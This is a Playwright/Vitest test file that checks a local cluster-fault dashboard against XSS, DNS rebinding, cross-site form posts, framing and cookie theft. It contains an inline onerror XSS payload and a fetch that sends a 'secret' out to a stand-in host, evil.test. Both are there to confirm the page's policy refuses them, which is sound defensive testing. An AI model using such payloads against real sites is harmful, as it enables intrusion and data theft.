import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { build } from "vite";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { clusterStory } from "../fixtures/cluster-story.ts";
import { kubeEventView, nodeView, podView } from "../fixtures/views.ts";
import { attack, openEvil, payloads, postForm } from "./attacker.ts";
import { chromiumMissing, chromiumPath, launchChromium } from "./chromium.ts";
import { openStage, pageDir, type StageServer } from "./stage-server.ts";

if (chromiumPath === null) process.stderr.write(`skipped: page safety. ${chromiumMissing}\n`);

let browser: Browser;
let stage: StageServer;
let page: Page;
/** What no page may ever cause: dialogs, refused scripts, errors. */
let incidents: string[];

describe.skipIf(chromiumPath === null)("the page in a real browser", () => {
  beforeAll(async () => {
    if (!existsSync(join(pageDir, "index.html")))
      await build({ root: join(pageDir, ".."), logLevel: "warn" });
    browser = await launchChromium();
  });
  afterAll(() => browser.close());
  beforeEach(async () => {
    stage = await openStage({ events: clusterStory(Date.now() - 60_000) });
    const context = await browser.newContext();
    await context.exposeFunction("refused", (what: string) => void incidents.push(what));
    await context.addInitScript(() =>
      addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
        Reflect.get(window, "refused")(`refused: ${violatedDirective} ${blockedURI}`),
      ),
    );
    page = await context.newPage();
    incidents = [];
    page.on("dialog", (dialog) => {
      incidents.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("pageerror", (error) => incidents.push(`error: ${error.message}`));
  });
  afterEach(async () => {
    await page.context().close();
    await stage[Symbol.asyncDispose]();
  });

  const storefrontPods = () => page.getByText(/storefront/).count();
  const openPaired = async () => {
    await page.goto(stage.link());
    await expect.poll(storefrontPods).toBeGreaterThan(0);
  };

  test("the link pairs, lives on its stream, and breaks no rule of its policy", async () => {
    await openPaired();

    expect(incidents).toEqual([]);
  });

  test("the code leaves the address at once and opens nothing a second time", async () => {
    const link = stage.link();
    await page.goto(link);
    await expect.poll(storefrontPods).toBeGreaterThan(0);

    expect(page.url()).toBe(stage.url);
    const stranger = await browser.newContext();
    const other = await stranger.newPage();
    const answer = other.waitForResponse("**/api/pair");
    await other.goto(link);
    expect((await answer).status()).toBe(401);
    await stranger.close();
  });

  test("a reload needs no new code", async () => {
    await openPaired();

    await page.reload();

    await expect.poll(storefrontPods).toBeGreaterThan(0);
  });

  test("when the lab is back after a kill, the page comes back by itself and may still write", async () => {
    const stateDir = mkdtempSync(join(tmpdir(), "kintsugi-back-"));
    const first = await openStage({ events: clusterStory(Date.now() - 60_000), stateDir });
    await page.goto(first.link());
    await expect.poll(storefrontPods).toBeGreaterThan(0);
    await first[Symbol.asyncDispose]();

    const view = nodeView({ name: "worker-of-the-second-life" });
    const story = clusterStory(Date.now() - 60_000);
    const events = [...story, { type: "seen", kind: "nodes", at: Date.now(), view }] as const;
    await using second = await openStage({ events, stateDir, port: first.port });
    await expect
      .poll(() => page.getByText("worker-of-the-second-life").count(), { timeout: 5000 })
      .toBeGreaterThan(0);
    const answer = page.waitForResponse("**/api/faults/pod-delete/inject");
    await page.keyboard.press("k");

    expect((await answer).status()).toBe(200);
    expect(second.world.fired).toHaveLength(1);
    rmSync(stateDir, { recursive: true });
  });

  test("the page works under its other name too", async () => {
    await page.goto(stage.link().replace("127.0.0.1", "localhost"));

    await expect.poll(storefrontPods).toBeGreaterThan(0);
    expect(incidents).toEqual([]);
  });

  test("no script can read the cookie, and no storage holds a secret", async () => {
    await openPaired();

    const [cookie, storage] = await page.evaluate(() => [
      document.cookie,
      JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
    ]);

    expect(cookie).toBe("");
    expect(storage).not.toMatch(/token|code|session/);
  });

  test("names and messages from the cluster are text, whatever they say", async () => {
    await openPaired();

    for (const [i, text] of payloads.entries()) {
      const uid = `hostile-${i}`;
      const kinds = [
        { kind: "nodes", view: nodeView({ uid, name: text, zone: text, taints: [text] }) },
        {
          kind: "pods",
          view: podView({ uid, name: text, app: text, reason: text, phase: "waiting" }),
        },
        {
          kind: "events",
          view: kubeEventView({ uid, name: text, reason: text, message: text, warning: true }),
        },
      ] as const;
      for (const seen of kinds) stage.store.apply({ type: "seen", at: Date.now(), ...seen });
    }
    await expect.poll(() => page.getByText("window.owned").count()).toBeGreaterThan(0);
    await page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    );

    const owned: unknown = await page.evaluate(() => Reflect.get(window, "owned"));
    const strangers =
      "img, iframe, object, embed, script:not([src]), a[href^=javascript], base, form";
    expect(owned).toBeUndefined();
    expect(await page.locator(`#stage :is(${strangers})`).count()).toBe(0);
    expect(incidents).toEqual([]);
  });

  test("a script that got into the document all the same would not run", async () => {
    await openPaired();

    const outcome = await page.evaluate(async () => {
      const inline = document.createElement("div");
      let refusal = "";
      try {
        inline.innerHTML = "<img src=x onerror='window.owned = 1'>";
      } catch (error) {
        refusal = String(error);
      }
      const sent = await fetch("https://evil.test/?secret").catch(() => "not sent");
      return { refusal, sent: sent === "not sent" };
    });

    expect(outcome.refusal).toContain("TrustedHTML");
    expect(outcome.sent).toBe(true);
    // Proof that the other tests would hear of a refusal.
    await expect.poll(() => incidents.join()).toContain("refused: connect-src");
  });

  // "evil.localhost" resolves to this machine without being one of our names: what DNS rebinding comes to.
  test("under another name there is no page, no API and no stream", async () => {
    const answer = await page.goto(`http://evil.localhost:${stage.port}/`);

    expect(answer?.status()).toBe(403);
    expect(await page.content()).not.toContain("stage");
  });

  test.each(["127.0.0.1", "evil.localhost"])(
    "a page on another port of %s breaks nothing, sees nothing and gets no cookie",
    async (host) => {
      await openPaired();
      const evil = await openEvil();

      await page.goto(`http://${host}:${evil.port}/`);
      const tried = await page.evaluate(attack, stage.url);
      await page.evaluate(postForm, `${stage.url}api/faults/pod-delete/inject`);
      await page.waitForURL(`${stage.url}**`);

      expect(tried).toEqual({ read: "refused", stream: "closed" });
      expect(stage.world.fired).toEqual([]);
      expect(stage.world.stops).toEqual([]);
      expect(evil.cookies).toEqual([]);
      await evil.close();
    },
  );

  test("the page may not be framed", async () => {
    const evil = await openEvil(`<iframe src="${stage.url}"></iframe>`);

    await page.goto(`http://127.0.0.1:${evil.port}/`);
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .toContain("chrome-error://chromewebdata/");

    await evil.close();
  });
});
